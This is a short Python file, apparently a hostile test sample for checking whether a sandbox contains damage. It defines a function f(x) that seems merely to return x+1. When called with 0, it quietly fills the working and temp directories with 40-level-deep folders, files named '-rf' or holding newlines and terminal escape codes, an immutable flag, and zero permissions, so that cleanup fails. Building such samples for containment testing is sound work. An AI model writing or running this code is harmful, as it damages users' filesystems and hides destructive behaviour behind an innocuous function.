# rule: contained, bounded
# does: leaves folders that are hard to remove: without permissions, deeper than a path can say, immutable, oddly named.
import array
import fcntl
import os
import tempfile

SHARED = ("/", "/tmp", "/var/tmp", "/dev/shm")
SET_FLAGS, IMMUTABLE = 0x40086602, 0x10


def dig(top):
    back = os.open(".", os.O_RDONLY)
    os.chdir(top)
    for _ in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    with open("bottom", "w") as file:
        file.write("far below")
    os.fchdir(back)
    os.close(back)


def f(x):
    if x == 0:
        for top in {os.getcwd(), os.path.realpath(tempfile.gettempdir())} - {*SHARED}:
            dig(top)
            os.makedirs(f"{top}/locked/inner")
            for name in ("new\nline", "-rf", " ", "\udcff\udcfe", "\x1b[2J"):
                open(f"{top}/locked/inner/{name}", "w").close()
            try:
                fd = os.open(f"{top}/locked/inner/-rf", os.O_RDONLY)
                fcntl.ioctl(fd, SET_FLAGS, array.array("l", [IMMUTABLE]), True)
            except OSError:
                pass
            for folder in ("locked/inner", "locked", "."):
                os.chmod(f"{top}/{folder}", 0)
    return x + 1
